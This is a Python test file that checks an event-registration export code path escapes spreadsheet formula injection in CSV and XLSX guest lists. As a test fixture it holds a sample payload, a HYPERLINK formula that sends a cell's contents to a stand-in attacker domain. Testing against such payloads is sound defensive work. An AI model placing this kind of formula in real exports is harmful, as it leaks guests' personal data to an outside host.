"""Lists as files, in which nothing that people wrote can act."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from events import exporting
from events.models import EventBook
from tests.events.guests import join, open_event
from tests.factories import HubSite

FORMULA = '=HYPERLINK("https://evil.example.org/?"&A1)'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " ="])
def test_what_a_spreadsheet_would_run_becomes_text(sign: str) -> None:
    assert exporting.harmless(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("text", ["Anna", "3-4 persone", "a=b", ""])
def test_other_text_stays(text: str) -> None:
    assert exporting.harmless(text) == text


@pytest.mark.django_db
def test_both_files_hold_everybody_and_no_formula(hub_site: HubSite) -> None:
    event = open_event(hub_site)
    join(event, "anna@example.org", name=FORMULA, access_needs="Una rampa\x01\x0b")
    join(event, "ugo@example.org", name="Ugo «il lungo»")
    book = EventBook.objects.get()

    text = exporting.to_csv(book)
    rows = list(csv.reader(StringIO(text.decode("utf-8-sig")), delimiter=";"))
    sheet = load_workbook(BytesIO(exporting.to_xlsx(book))).active

    assert text.startswith(b"\xef\xbb\xbf")
    assert len(rows) == sheet.max_row == 3
    assert {row[0] for row in rows[1:]} == {f"'{FORMULA}", "Ugo «il lungo»"}
    assert {cell.data_type for row in sheet for cell in row if cell.value} == {"s"}
    assert [cell.value or "" for cell in sheet[2]] == rows[1]
